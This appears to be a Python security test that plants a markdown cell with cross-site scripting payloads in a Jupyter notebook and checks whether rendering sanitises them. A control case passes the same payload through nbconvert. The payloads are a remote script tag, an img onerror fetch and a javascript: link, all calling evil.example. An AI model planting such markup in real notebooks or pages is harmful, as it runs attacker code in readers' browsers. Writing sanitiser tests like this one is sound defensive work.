# A text cell with a script and a link that is one, in the pages made of it.
# stopped by: Markdown is rendered and then cleaned by nh3; in the notebook as it ran, before
# control: own
# expect: graded 0

import json

from target import cells_of, notebook, obeyed

MARK = "evil.example"
PAYLOAD = 'A note.\n\n<script src=\'//evil.example/a.js\'></script>\n<img src=x onerror="fetch(\'//evil.example\')">\n[x](javascript:fetch(\'//evil.example\'))'


def make(folder, name, honest):
    found = notebook(cells_of({}))
    found["cells"].insert(1, {"cell_type": "markdown", "id": "note", "source": PAYLOAD, "metadata": {}})
    (folder / f"{name}.ipynb").write_text(json.dumps(found))


def control(folder):
    """The same in a page as nbconvert writes it for whoever trusts the notebook."""
    from nbconvert import HTMLExporter
    from nbformat import from_dict

    cells = [{"cell_type": "markdown", "id": "note", "source": PAYLOAD, "metadata": {}}]
    page, _ = HTMLExporter().from_notebook_node(from_dict(notebook([]) | {"cells": cells}))
    return browsed(page)


def browsed(page):
    return obeyed(page, MARK)
